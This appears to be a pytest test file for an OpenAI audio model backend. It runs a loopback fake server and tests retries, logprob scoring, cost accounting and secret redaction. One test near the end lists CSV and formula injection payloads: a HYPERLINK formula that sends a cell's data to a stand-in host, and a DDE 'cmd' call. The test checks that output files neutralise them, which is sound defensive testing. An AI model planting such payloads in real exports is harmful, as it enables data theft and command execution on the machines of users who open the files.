"""The OpenAI backend against a real HTTP server on 127.0.0.1 that speaks chat completions.

The fake server decodes the WAV it receives and answers from its length, so the tests see
that the audio arrived intact; it can be scripted to fail in the ways real APIs fail.
"""

import base64
import csv
import io
import json
import logging
import math
import os
import re
import sqlite3
import subprocess
import sys
import threading
import time
import wave
from collections import deque
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import numpy as np
import pandas as pd
import pytest
from rich.console import Console

from biasbench.errors import BiasbenchError
from biasbench.formats import strict_loads
from biasbench.models.base import GenerationSettings, Request
from biasbench.models.openai_api import CONTENT_FILTER_TEXT, OpenAIAudioBackend, option_logprobs_from
from biasbench.models.registry import ALIASES, load_backend, resolve_model
from biasbench.tasks.scoring import REFUSAL, score_multiple_choice
from conftest import requires_espeak, write

KEY = "sk-test-Sup3rSecretKeyValue-1234567890"
KEY_ENV = "BIASBENCH_TEST_OPENAI_KEY"
LETTERS = "ABCD"
OPTIONS = ("Paris", "the Andes", "a bicycle", "photosynthesis")
SR = 16000


# ---------------------------------------------------------------- the fake server


def letter_for(n_samples: int) -> str:
    return LETTERS[(n_samples // 1600) % 4]  # one letter per 0.1 s of audio


def top_logprobs_for(best: str) -> list[tuple[str, float]]:
    """What the server offers: best 0.6 + ' best' 0.1, the next letter 0.15, non-letters."""
    nxt = LETTERS[(LETTERS.index(best) + 1) % 4]
    return [(best, math.log(0.6)), (nxt, math.log(0.15)), (" " + best, math.log(0.1)),
            ("The", math.log(0.1)), ("\n", math.log(0.05))]


def expected_option_logprobs(best: str) -> dict[str, float]:
    nxt = LETTERS[(LETTERS.index(best) + 1) % 4]
    out = {letter: -math.inf for letter in LETTERS}
    out[best], out[nxt] = math.log(0.7 / 0.85), math.log(0.15 / 0.85)
    return out


def decode_wav(b64: str) -> tuple[int, int, np.ndarray]:
    with wave.open(io.BytesIO(base64.b64decode(b64))) as wav:
        assert wav.getnchannels() == 1 and wav.getsampwidth() == 2
        return wav.getframerate(), wav.getnframes(), np.frombuffer(wav.readframes(wav.getnframes()), "<i2")


class FakeOpenAI:
    """A chat-completions server. `script` holds one action per coming request (then 'ok');
    `rules` map a request body to an action for every request they match."""

    def __init__(self):
        self.script: deque = deque()
        self.rules: list = []
        self.calls: list[dict] = []
        self.headers: list[dict] = []
        self.paths: list[str] = []  # each request's path and query, as sent
        self.times: list[float] = []
        self.max_top_logprobs: int | None = None
        self.logprobs_unsupported = False
        self.top_override: list | None = None
        self.lock = threading.Lock()
        self.in_flight = self.max_in_flight = 0
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):  # quiet
                pass

            def do_POST(self):
                fake.handle(self)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.httpd.block_on_close = False
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"

    # -- one request
    def handle(self, h: BaseHTTPRequestHandler):
        raw = h.rfile.read(int(h.headers.get("Content-Length", 0)))
        body = json.loads(raw)
        with self.lock:
            self.calls.append(body)
            self.headers.append({k.lower(): v for k, v in h.headers.items()})
            self.paths.append(h.path)
            self.times.append(time.monotonic())
            self.in_flight += 1
            self.max_in_flight = max(self.max_in_flight, self.in_flight)
            h.released = False  # one handler serves every request of a kept-alive connection
            action = next((a for rule in self.rules if (a := rule(body))), None)
            if action is None:
                action = self.script.popleft() if self.script else ("ok",)
        try:
            if urlsplit(h.path).path != "/v1/chat/completions":
                return self.send(h, 404, {"error": {"message": "not found"}})
            self.act(h, body, action)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client gave up (timeout): nothing to answer
        finally:
            self.release(h)

    def release(self, h):
        """The request stops counting as in flight, once. send() calls this before the reply's
        last bytes: the client may start its next request the moment they arrive, before this
        thread gets back to handle()'s `finally` (which made max_in_flight overshoot under load)."""
        with self.lock:
            if not h.released:
                h.released = True
                self.in_flight -= 1

    def act(self, h, body, action):
        kind = action[0]
        if kind == "status":
            _, code, headers, payload = action
            return self.send(h, code, payload, headers)
        if kind == "hang":
            time.sleep(action[1])
            return self.send(h, 200, self.completion(body))
        if kind == "raw":
            return self.send(h, 200, action[1])
        if kind == "say":  # a well-formed completion whose text is action[1]
            return self.send(h, 200, self.completion(body, content=action[1]))
        if kind == "content_filter":
            return self.send(h, 200, self.completion(body, content=None, finish="content_filter"))
        if kind == "refusal":
            return self.send(h, 200, self.completion(body, content=None, refusal=action[1]))
        top = body.get("top_logprobs")
        if self.logprobs_unsupported and body.get("logprobs"):
            return self.send(h, 400, {"object": "error", "message": "logprobs is not supported for this model"})
        if self.max_top_logprobs is not None and top and top > self.max_top_logprobs:
            return self.send(h, 400, {"error": {"message": f"top_logprobs must be at most {self.max_top_logprobs}",
                                                "type": "invalid_request_error", "param": "top_logprobs"}})
        text = next(p["text"] for p in body["messages"][0]["content"] if p["type"] == "text")
        delay = re.search(r"delay=([\d.]+)", text)
        if delay:
            time.sleep(float(delay.group(1)))
        return self.send(h, 200, self.completion(body))

    def completion(self, body, content="", finish="stop", refusal=None):
        parts = body["messages"][0]["content"]
        audio = next((p["input_audio"] for p in parts if p["type"] == "input_audio"), None)
        text = next((p["text"] for p in parts if p["type"] == "text"), "")
        n = 0
        if audio is not None:
            assert audio["format"] == "wav"
            rate, n, pcm = decode_wav(audio["data"])
            assert rate == SR
            summary = f"samples={n} sum={int(pcm.astype(np.int64).sum())}"
        else:
            summary = "no audio"
        logprobs = None
        if body.get("logprobs"):
            best = letter_for(n)
            top = (self.top_override or top_logprobs_for(best))[: body["top_logprobs"]]
            logprobs = {"content": [{"token": top[0][0], "logprob": top[0][1], "bytes": None,
                                     "top_logprobs": [{"token": t, "logprob": lp, "bytes": None} for t, lp in top]}]}
            default = top[0][0]
        else:
            default = f"{summary} prompt={text}"
        audio_tokens = n // 1600
        completion_tokens = 1 if body.get("logprobs") else 7
        return {
            "id": "chatcmpl-fake", "object": "chat.completion", "created": 0,
            "model": body["model"] + "-2099-01-01", "system_fingerprint": "fp_fake",
            "choices": [{"index": 0, "finish_reason": finish, "logprobs": logprobs,
                         "message": {"role": "assistant", "refusal": refusal,
                                     "content": default if content == "" else content}}],
            "usage": {"prompt_tokens": 20 + audio_tokens, "completion_tokens": completion_tokens,
                      "total_tokens": 20 + audio_tokens + completion_tokens,
                      "prompt_tokens_details": {"audio_tokens": audio_tokens, "cached_tokens": 0},
                      "completion_tokens_details": {"audio_tokens": 0}},
        }

    def send(self, h, code, payload, headers=None):
        data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        h.send_response(code)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", str(len(data)))
        for k, v in (headers or {}).items():
            h.send_header(k, v)
        h.end_headers()
        self.release(h)
        h.wfile.write(data)


@pytest.fixture
def server():
    fake = FakeOpenAI()
    fake.thread.start()
    yield fake
    fake.httpd.shutdown()
    fake.httpd.server_close()


@pytest.fixture
def make(server, monkeypatch):
    monkeypatch.setenv(KEY_ENV, KEY)

    def build(**kwargs):
        options = dict(base_url=server.url, api_key_env=KEY_ENV, max_concurrency=4, max_retries=3,
                       timeout_s=2.0, backoff_base_s=0.01, backoff_max_s=0.05)
        model = kwargs.pop("model", "gpt-4o-mini-audio-preview")
        options.update(kwargs)
        return OpenAIAudioBackend(model, **options)

    return build


def clip(seconds: float, seed: int = 0) -> np.ndarray:
    rng = np.random.default_rng(seed)
    return (0.3 * rng.standard_normal(int(round(seconds * SR)))).astype(np.float32)


def mc(i: int, seconds: float, prompt: str = "Reply with a letter.") -> Request:
    return Request(f"r{i}", prompt, clip(seconds, i), SR, choices=tuple(LETTERS))


# ---------------------------------------------------------------- requests and answers


def test_audio_arrives_intact_beside_the_text_prompt(server, make):
    backend = make()
    settings = GenerationSettings(max_new_tokens=9, temperature=0.7, top_p=0.9, seed=5)
    audio = [clip(0.73, 1), np.clip(clip(1.2, 2) * 5, -2, 2)]  # the second one clips at +-1
    requests = [Request(f"g{i}", f"question {i}", a, SR, settings=settings) for i, a in enumerate(audio)]
    requests.append(Request("text-only", "no audio here", None, settings=settings))
    responses = backend.generate(requests)

    for a, response, request in zip(audio, responses, requests):
        pcm = np.round(np.clip(a, -1, 1) * 32767).astype(np.int64)
        assert response.error is None
        assert response.text == f"samples={len(a)} sum={int(pcm.sum())} prompt={request.prompt}"
    assert responses[2].text == "no audio prompt=no audio here"
    by_prompt = {c["messages"][0]["content"][-1]["text"]: c for c in server.calls}  # arrival order varies
    body = by_prompt["question 0"]
    assert [p["type"] for p in body["messages"][0]["content"]] == ["input_audio", "text"]
    assert body["messages"][0]["role"] == "user" and body["modalities"] == ["text"]
    assert (body["temperature"], body["top_p"], body["seed"], body["max_tokens"]) == (0.7, 0.9, 5, 9)
    assert "logprobs" not in body
    assert [p["type"] for p in by_prompt["no audio here"]["messages"][0]["content"]] == ["text"]
    assert responses[0].n_input_tokens == 20 + len(audio[0]) // 1600 and responses[0].n_output_tokens == 7


def test_option_logprobs_match_what_the_server_sent(server, make):
    backend = make()
    requests = [mc(i, 0.1 * (i + 1) + 0.05) for i in range(4)]
    responses = backend.score_choices(requests)
    for request, response in zip(requests, responses):
        best = letter_for(len(request.audio))
        assert response.error is None and response.text == best
        assert response.option_logprobs.keys() == set(LETTERS)
        for letter, value in expected_option_logprobs(best).items():
            assert response.option_logprobs[letter] == pytest.approx(value, abs=1e-12)
        assert sum(math.exp(v) for v in response.option_logprobs.values()) == pytest.approx(1.0)
    assert {r.text for r in responses} == set(LETTERS)  # every letter was exercised
    body = server.calls[0]
    assert (body["temperature"], body["max_tokens"], body["logprobs"], body["top_logprobs"]) == (0.0, 1, True, 20)


def test_option_logprobs_parsing_rules():
    def payload(top, sampled=None):
        sampled = sampled or top[0]
        return {"content": [{"token": sampled[0], "logprob": sampled[1],
                             "top_logprobs": [{"token": t, "logprob": lp} for t, lp in top]}]}

    got = option_logprobs_from(payload([("B", -1.0), (" B", -1.0), ("A", -2.0), ("Hmm", -0.1)]), "ABC")
    z = math.log(2 * math.exp(-1.0) + math.exp(-2.0))
    assert got == pytest.approx({"A": -2.0 - z, "B": math.log(2 * math.exp(-1.0)) - z, "C": -math.inf})
    # The sampled token counts even when the server left it out of the alternatives.
    assert option_logprobs_from(payload([("x", -3.0)], sampled=("C", -0.5)), "ABC")["C"] == 0.0
    assert option_logprobs_from(payload([("Hmm", -0.1), ("The", -2.0)]), "ABC") is None
    assert option_logprobs_from(None, "AB") is None and option_logprobs_from({"content": []}, "AB") is None
    assert option_logprobs_from(payload([("A.", -0.1), ("a", -0.2)]), "AB") is None  # not the bare letter


def test_no_option_in_top_k_falls_back_to_the_text(server, make):
    server.top_override = [("The", -0.1), ("I", -2.5)]
    response = make().score_choices([mc(0, 0.5)])[0]
    assert response.error is None and response.option_logprobs is None and response.text == "The"


def test_top_logprobs_falls_back_to_5_when_the_server_caps_it(server, make):
    server.max_top_logprobs = 5
    backend = make(max_concurrency=1)
    responses = backend.score_choices([mc(i, 0.35) for i in range(3)])
    assert all(r.error is None and r.text == letter_for(len(mc(0, 0.35).audio)) for r in responses)
    assert [c["top_logprobs"] for c in server.calls] == [20, 5, 5, 5]  # one refusal, then 5 for all
    usage = backend.usage()
    assert usage["top_logprobs"] == 5 and usage["retries"] == 0 and usage["http_calls"] == 4


def test_a_server_without_logprobs_is_scored_from_the_text(server, make):
    server.logprobs_unsupported = True
    backend = make(max_concurrency=1)
    requests = [mc(i, 0.2) for i in range(2)]
    for r in requests:
        r.settings = GenerationSettings(max_new_tokens=12)
    responses = backend.score_choices(requests)
    assert all(r.error is None and r.option_logprobs is None and r.text.startswith("samples=3200")
               for r in responses)
    assert [c.get("top_logprobs") for c in server.calls] == [20, 5, None, None]
    assert server.calls[-1]["max_tokens"] == 12 and server.calls[-1]["temperature"] == 0.0
    assert backend.usage()["top_logprobs"] is None


def test_retry_after_parsing():
    from email.utils import formatdate

    from biasbench.models.openai_api import _retry_after

    assert _retry_after({"retry-after-ms": "250", "retry-after": "9"}) == 0.25
    assert _retry_after({"retry-after": "2.5"}) == 2.5
    assert 5 <= _retry_after({"retry-after": formatdate(time.time() + 8, usegmt=True)}) <= 8
    assert _retry_after({"retry-after": "soon"}) is None and _retry_after({}) is None


# ---------------------------------------------------------------- failures and retries


@pytest.mark.parametrize("header, value, floor", [("retry-after", "1", 1.0), ("retry-after-ms", "400", 0.4)])
def test_429_waits_for_retry_after_then_succeeds(server, make, header, value, floor):
    server.script.append(("status", 429, {header: value}, {"error": {"message": "slow down", "type": "requests"}}))
    backend = make(backoff_base_s=0.001)
    response = backend.score_choices([mc(0, 0.2)])[0]
    assert response.error is None and response.text == letter_for(len(mc(0, 0.2).audio))
    assert len(server.times) == 2 and server.times[1] - server.times[0] >= floor
    assert backend.usage()["retries"] == 1


def test_429_insufficient_quota_is_not_retried(server, make):
    server.script.append(("status", 429, {}, {"error": {"message": "You exceeded your quota",
                                                        "code": "insufficient_quota"}}))
    response = make().generate([mc(0, 0.2)])[0]
    assert len(server.calls) == 1 and "429" in response.error and "quota" in response.error


def test_500_then_success(server, make):
    server.script.append(("status", 500, {}, {"error": {"message": "boom"}}))
    backend = make()
    response = backend.generate([mc(0, 0.2)])[0]
    assert response.error is None and response.text.startswith("samples=3200")
    assert len(server.calls) == 2 and backend.usage()["retries"] == 1 and backend.usage()["failures"] == 0


def test_malformed_json_is_retried(server, make):
    server.script.extend([("raw", b'{"choices": [ truncated'), ("raw", b'{"object": "oops"}')])
    backend = make()
    response = backend.generate([mc(0, 0.2)])[0]
    assert response.error is None and len(server.calls) == 3 and backend.usage()["retries"] == 2


def test_hung_server_times_out_is_retried_then_gives_an_error_in_bounded_time(server, make):
    server.rules.append(lambda body: ("hang", 3.0))
    backend = make(timeout_s=0.3, max_retries=2)
    start = time.monotonic()
    response = backend.generate([mc(0, 0.2)])[0]
    elapsed = time.monotonic() - start
    assert "timed out" in response.error and "3 attempts" in response.error
    assert len(server.calls) == 3 and 0.9 <= elapsed < 2.5
    usage = backend.usage()
    assert (usage["requests"], usage["retries"], usage["failures"]) == (1, 2, 1)


def test_connection_refused_is_retried_then_an_error(monkeypatch):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # closed again: nobody listens there
    backend = OpenAIAudioBackend("m", base_url=f"http://127.0.0.1:{port}/v1", max_retries=2, backoff_base_s=0.01)
    response = backend.generate([mc(0, 0.1)])[0]
    assert "connection error" in response.error and backend.usage()["retries"] == 2


def test_other_4xx_is_not_retried(server, make):
    server.script.append(("status", 400, {}, {"error": {"message": "Invalid value for 'model'",
                                                        "type": "invalid_request_error"}}))
    response = make().generate([mc(0, 0.2)])[0]
    assert len(server.calls) == 1 and "HTTP 400" in response.error and "Invalid value" in response.error


@pytest.mark.parametrize("action, text", [
    (("content_filter",), CONTENT_FILTER_TEXT),
    (("refusal", "I'm sorry, but I can't help with that."), "I'm sorry, but I can't help with that."),
])
def test_refusal_is_an_answer_not_an_error(server, make, action, text):
    server.script.append(action)
    backend = make()
    response = backend.score_choices([mc(0, 0.2)])[0]
    assert response.error is None and response.text == text and response.option_logprobs is None
    assert score_multiple_choice(response.text, None, tuple(LETTERS), OPTIONS, 0).status == REFUSAL
    assert backend.usage()["refusals"] == 1 and backend.usage()["failures"] == 0


def test_a_request_that_always_fails_does_not_sink_its_batch(server, make):
    server.rules.append(lambda body: ("status", 500, {}, {"error": {"message": "always broken"}})
                        if "ALWAYS-500" in json.dumps(body) else None)
    backend = make(max_retries=2)
    requests = [mc(0, 0.2), mc(1, 0.3, prompt="ALWAYS-500"), mc(2, 0.4)]
    responses = backend.score_choices(requests)
    assert [r.request_id for r in responses] == ["r0", "r1", "r2"]
    assert responses[0].error is None and responses[2].error is None
    assert "HTTP 500" in responses[1].error and "always broken" in responses[1].error
    assert "3 attempts" in responses[1].error
    usage = backend.usage()
    assert (usage["requests"], usage["failures"], usage["retries"], usage["http_calls"]) == (3, 1, 2, 5)


# ---------------------------------------------------------------- concurrency, usage, secrets


def test_concurrency_is_bounded_and_order_preserved(server, make):
    backend = make(max_concurrency=3)
    # Earlier requests take longer, so answers arrive out of order.
    requests = [mc(i, 0.1 * (i % 4 + 1), prompt=f"delay={0.02 * (12 - i):.2f}") for i in range(12)]
    responses = backend.score_choices(requests)
    assert [r.request_id for r in responses] == [r.request_id for r in requests]
    assert [r.text for r in responses] == [letter_for(len(r.audio)) for r in requests]
    assert server.max_in_flight == 3  # used in full, never exceeded


def test_usage_and_cost_accounting(server, make):
    backend = make()
    requests = [mc(i, s) for i, s in enumerate([0.5, 1.0, 2.25])]
    backend.score_choices(requests)
    backend.generate([mc(9, 1.5)])
    audio = [len(r.audio) // 1600 for r in requests] + [int(1.5 * SR) // 1600]
    prompt, completion = sum(20 + a for a in audio), 3 * 1 + 7
    usage = backend.usage()
    assert (usage["requests"], usage["http_calls"], usage["retries"], usage["failures"]) == (4, 4, 0, 0)
    assert (usage["prompt_tokens"], usage["completion_tokens"]) == (prompt, completion)
    assert (usage["audio_prompt_tokens"], usage["audio_completion_tokens"]) == (sum(audio), 0)
    # gpt-4o-mini-audio-preview: text in 0.15, out 0.60, audio in 10 USD per million tokens.
    cost = ((prompt - sum(audio)) * 0.15 + sum(audio) * 10.0 + completion * 0.60) / 1e6
    assert usage["estimated_cost_usd"] == pytest.approx(cost, abs=1e-6)
    assert usage["reported_models"] == ["gpt-4o-mini-audio-preview-2099-01-01"]
    assert usage["system_fingerprints"] == ["fp_fake"]


def test_custom_prices_and_unknown_models(server, make):
    assert make(model="local-model").usage()["estimated_cost_usd"] is None
    backend = make(model="local-model", price_per_million_input_tokens=1.0, price_per_million_output_tokens=2.0)
    backend.generate([mc(0, 1.0)])
    # No audio price given: audio tokens count at the input price.
    assert backend.usage()["estimated_cost_usd"] == pytest.approx((30 * 1.0 + 7 * 2.0) / 1e6)


def test_fingerprint_names_backend_model_and_host_only(server, make):
    backend = make()
    assert backend.fingerprint() == {"backend": "openai", "model": "gpt-4o-mini-audio-preview",
                                     "base_url": "127.0.0.1", "api": "chat.completions"}
    backend.generate([mc(0, 0.1)])
    fp = backend.fingerprint()
    assert fp["reported_model"] == "gpt-4o-mini-audio-preview-2099-01-01" and fp["system_fingerprint"] == "fp_fake"
    assert backend.max_audio_seconds is None and make(max_audio_seconds=30).max_audio_seconds == 30


def test_api_key_is_sent_but_never_leaks(server, make, caplog):
    caplog.set_level(logging.DEBUG)
    server.script.extend([
        ("status", 500, {}, {"error": {"message": f"upstream said: Bearer {KEY}"}}),  # retried, logged
        ("status", 401, {}, {"error": {"message": f"Incorrect API key provided: {KEY}", "code": "invalid_api_key"}}),
    ])
    backend = make()
    response = backend.generate([mc(0, 0.2)])[0]
    assert all(h["authorization"] == f"Bearer {KEY}" for h in server.headers)
    assert "HTTP 401" in response.error and "Incorrect API key" in response.error and "<redacted>" in response.error
    backend.generate([mc(1, 0.2)])
    for text in (response.error, json.dumps(backend.fingerprint()), json.dumps(backend.usage()), repr(backend),
                 str(backend), repr(vars(backend)), caplog.text):
        assert KEY not in text and KEY[8:20] not in text


def test_malformed_key_is_refused_without_showing_it(monkeypatch):
    monkeypatch.setenv(KEY_ENV, KEY + "\n" + KEY)
    with pytest.raises(BiasbenchError, match=KEY_ENV) as err:
        OpenAIAudioBackend("gpt-4o-audio-preview", api_key_env=KEY_ENV)
    assert KEY not in str(err.value)


def test_missing_key_names_the_variable(monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.delenv(KEY_ENV, raising=False)
    with pytest.raises(BiasbenchError, match="OPENAI_API_KEY"):
        OpenAIAudioBackend("gpt-4o-audio-preview")
    with pytest.raises(BiasbenchError, match=KEY_ENV):
        OpenAIAudioBackend("gpt-4o-audio-preview", api_key_env=KEY_ENV, base_url="https://api.openai.com/v1/")


def test_local_server_needs_no_key(server, monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    backend = OpenAIAudioBackend("served-model", base_url=server.url.removesuffix("/v1"))  # /v1 is added
    assert backend.generate([mc(0, 0.1)])[0].error is None
    assert server.headers[0]["authorization"] == "Bearer EMPTY"


def test_a_query_in_the_base_url_stays_a_query_and_its_secrets_stay_hidden(server, make, caplog):
    """`--base-url 'http://h/v1?k=x'`: requests go to /v1/chat/completions?k=x (the query is not
    pasted into the path), and neither the query value nor a user name or key-like path segment
    shows in the backend's repr, fingerprint, errors or logs."""
    caplog.set_level(logging.DEBUG)
    port = server.httpd.server_address[1]
    backend = make(base_url=f"http://127.0.0.1:{port}/v1/?k=S3CRET-q&api-version=2025-01-01&empty=")
    assert backend.generate([mc(0, 0.1)])[0].error is None
    sent = urlsplit(server.paths[0])
    assert sent.path == "/v1/chat/completions"
    assert parse_qs(sent.query, keep_blank_values=True) == {"k": ["S3CRET-q"], "api-version": ["2025-01-01"],
                                                            "empty": [""]}
    with pytest.raises(BiasbenchError, match=r"gives the query parameter 'k' twice") as twice:
        make(base_url=f"http://127.0.0.1:{port}/v1?k=S3CRET-q&k=S3CRET-2")
    assert "S3CRET" not in str(twice.value)
    server.script.append(("status", 400, {}, {"error": {"message": f"bad request to {server.url}?k=S3CRET-q"}}))
    response = backend.generate([mc(1, 0.1)])[0]
    assert "HTTP 400" in response.error and "k=<redacted>" in response.error
    lurking = make(base_url=f"http://USERTOKEN123@127.0.0.1:{port}/v1/sk-proj-S3CRET/?x=S3CRET-q")
    for shown in (backend, lurking):
        for text in (repr(shown), shown.base_url, json.dumps(shown.fingerprint()), response.error, caplog.text):
            assert "S3CRET" not in text and "USERTOKEN" not in text, text
    assert lurking.base_url == f"http://<redacted>@127.0.0.1:{port}/v1/<redacted>"


# ---------------------------------------------------------------- registry


def test_registry_resolves_openai_models(server, monkeypatch):
    choice = resolve_model("openai:test-model")
    assert (choice.backend, choice.model, choice.pipeline_check) == ("openai", "test-model", False)
    assert ALIASES["gpt-4o-audio"].needs == "OPENAI_API_KEY" and not ALIASES["gpt-4o-audio"].needs_gpu
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    with pytest.raises(BiasbenchError, match="OPENAI_API_KEY"):
        resolve_model("gpt-4o-mini-audio")
    assert resolve_model("gpt-4o-mini-audio", offline_fallback=True).pipeline_check
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    alias = resolve_model("gpt-4o-audio")
    assert (alias.backend, alias.model, alias.name) == ("openai", "gpt-4o-audio-preview", "gpt-4o-audio")
    with pytest.raises(BiasbenchError, match="openai:"):
        resolve_model("openai:")

    backend = load_backend(resolve_model("openai:test-model"), base_url=server.url)
    assert isinstance(backend, OpenAIAudioBackend) and backend.base_url == server.url
    monkeypatch.setenv("OPENAI_BASE_URL", server.url)
    from_env = load_backend(resolve_model("openai:test-model"))
    assert from_env.base_url == server.url and from_env.generate([mc(0, 0.1)])[0].error is None


# ---------------------------------------------------------------- end to end through the runner

TASK = """
task: tiny-api
dataset:
  local: {path: tiny.csv}
doc_to_text: "{{ question }}{% for o in choices %} {{ letters[loop.index0] }}: {{ o }}.{% endfor %}"
instruction: "Reply with the letter only."
doc_to_choice: choices
doc_to_target: "{{ answer }}"
"""
DATA = ('item_id,question,choices,answer\n'
        'q1,What is two plus two?,"[""three"", ""four"", ""five"", ""six""]",1\n'
        'q2,Which is a colour?,"[""red"", ""dog"", ""run"", ""seven""]",0\n')
ACCENTS = {"black": "en-029", "white": "en-us", "east_asian": "en-gb-x-rp"}


def pool_yaml() -> str:
    lines = ["pool: tiny-espeak", "voices:"]
    for gender in ("female", "male"):
        for ethnicity, accent in ACCENTS.items():
            for k in (1, 2, 3):
                lines += [f"  - id: {gender[0]}-{ethnicity}-{k}", f"    gender: {gender}",
                          f"    ethnicity: {ethnicity}", f"    accent: {accent}", "    label_source: proxy",
                          f"    tts: {{backend: espeak-ng, voice: {accent}, variant: {gender[0]}{k}, "
                          f"speed: {150 + 10 * k}}}"]
    return "\n".join(lines) + "\n"


@requires_espeak
def test_runner_end_to_end_and_resume_never_pays_twice(server, tmp_path, monkeypatch):
    from biasbench.runner import RunOptions, run

    monkeypatch.setenv("OPENAI_BASE_URL", server.url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-dummy-e2e")
    write(tmp_path / "tiny.csv", DATA)
    options = RunOptions(task=str(write(tmp_path / "tiny.yaml", TASK)), model="openai:test-model",
                         pool=str(write(tmp_path / "pool.yaml", pool_yaml())), output_dir=tmp_path / "runs",
                         run_id="api", data_source="local", audio_cache=tmp_path / "audio", progress=False)
    quiet = Console(file=io.StringIO())
    result = run(options, console=quiet)
    assert (result.n_total, result.n_new, result.pipeline_check) == (36, 36, False)
    assert len(server.calls) == 36 and all(c["top_logprobs"] == 20 for c in server.calls)

    with sqlite3.connect(result.run_dir / "responses.sqlite") as db:
        rows = db.execute("SELECT item_id, voice_id, audio_seconds, answer, status, option_logprobs "
                          "FROM responses").fetchall()
    assert len(rows) == 36 and len({(r[0], r[1]) for r in rows}) == 36
    for item_id, voice_id, seconds, answer, status, logprobs in rows:
        assert status == "valid" and answer == letter_for(round(seconds * SR))
        # strict JSON: a letter outside the server's top alternatives (-inf) is stored as null
        assert sum(math.exp(v) for v in strict_loads(logprobs).values() if v is not None) == pytest.approx(1.0)
    manifest = json.loads((result.run_dir / "manifest.json").read_text())
    assert manifest["model"]["fingerprint"] == {"backend": "openai", "model": "test-model",
                                                "base_url": "127.0.0.1", "api": "chat.completions"}
    assert manifest["usage"]["requests"] == 36 and manifest["usage"]["failures"] == 0
    assert manifest["complete"] is True and "sk-dummy-e2e" not in json.dumps(manifest)

    again = run(RunOptions(**{**options.__dict__, "resume": True}), console=quiet)
    assert again.n_new == 0 and len(server.calls) == 36  # a rerun never pays twice


ANSWERS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2", "-0.5", "@SUM(A1)", "\tTAB",
           "NaN", "B"]


@requires_espeak
@pytest.mark.slow
def test_console_run_hides_url_secrets_sends_the_query_apart_and_writes_safe_files(server, tmp_path):
    """Through the installed console script, against the loopback server: a key in the base
    URL's user name and query reaches the server as a query (not inside the path) and never
    reaches manifest.json or the terminal; model answers that are spreadsheet formulas are text
    in responses.csv while numbers stay numbers; every JSON file is strict (an answer "NaN"
    leaves no bare NaN)."""
    answers = iter(ANSWERS * 10)
    lock = threading.Lock()

    def say(body):
        with lock:
            return ("say", next(answers))

    server.rules.append(say)
    write(tmp_path / "tiny.csv", DATA)
    task = write(tmp_path / "tiny.yaml", TASK + "scoring: generate\nitem_columns: [question]\n")
    port = server.httpd.server_address[1]
    env = dict(os.environ, OPENAI_API_KEY="sk-dummy-e2e", BIASBENCH_CACHE=str(tmp_path / "cache"))
    done = subprocess.run(
        [str(Path(sys.executable).parent / "biasbench"), "run", "--model", "openai:test-model", "--task", str(task),
         "--pool", str(write(tmp_path / "pool.yaml", pool_yaml())), "--data-source", "local", "--limit", "1",
         "--base-url", f"http://USERTOKEN9@127.0.0.1:{port}/v1?key=S3CRET-q", "-o", str(tmp_path / "runs"),
         "--run-id", "api", "--no-progress", "--no-report"], env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert len(server.paths) == 18 and all(path == "/v1/chat/completions?key=S3CRET-q" for path in server.paths)
    run_dir = tmp_path / "runs" / "api"
    for text in (done.stdout, done.stderr, (run_dir / "manifest.json").read_text()):
        assert "S3CRET" not in text and "USERTOKEN9" not in text
    manifest = strict_loads((run_dir / "manifest.json").read_text())
    assert manifest["options"]["base_url"] == f"http://<redacted>@127.0.0.1:{port}/v1?key=<redacted>"
    assert f"http://<redacted>@127.0.0.1:{port}/v1?key=<redacted>" in manifest["command"]
    strict_loads((run_dir / "summary.json").read_text())  # no bare NaN
    with open(run_dir / "responses.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    written = {row["response_text"] for row in rows}
    assert written == {"'" + a if a[0] in "=+@\t" else a for a in ANSWERS}  # formulas are text; -2 is a number
    assert {row["question"] for row in rows} == {"What is two plus two?"}  # plain text untouched
    assert all(not row[c].startswith("'") for row in rows for c in ("audio_seconds", "latency_s"))
    tidy = pd.read_parquet(run_dir / "responses.parquet")  # the parquet keeps the answers as given
    assert set(tidy["response_text"]) == set(ANSWERS)


@requires_espeak
@pytest.mark.slow
def test_console_run_where_every_request_fails_says_what_happened(server, tmp_path):
    """Every request refused (HTTP 400, not retried): the run ends with exit 3 and says none was
    answered, not that it was a text-only run."""
    server.rules.append(lambda body: ("status", 400, {}, {"error": {"message": "model not found here"}}))
    write(tmp_path / "tiny.csv", DATA)
    env = dict(os.environ, OPENAI_API_KEY="sk-dummy-e2e", BIASBENCH_CACHE=str(tmp_path / "cache"))
    done = subprocess.run(
        [str(Path(sys.executable).parent / "biasbench"), "run", "--model", "openai:test-model", "--task",
         str(write(tmp_path / "tiny.yaml", TASK)), "--pool", str(write(tmp_path / "pool.yaml", pool_yaml())),
         "--data-source", "local", "--limit", "1", "--base-url", server.url, "-o", str(tmp_path / "runs"),
         "--no-progress"], env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 3 and "Traceback" not in done.stderr, done.stderr
    assert "text-only" not in done.stdout + done.stderr
    assert "No answers to compare: none of the 18 planned requests" in done.stdout
    assert "18 of 18 requests were not answered: 18 failed when asked" in done.stderr
    assert "model not found here" in done.stderr
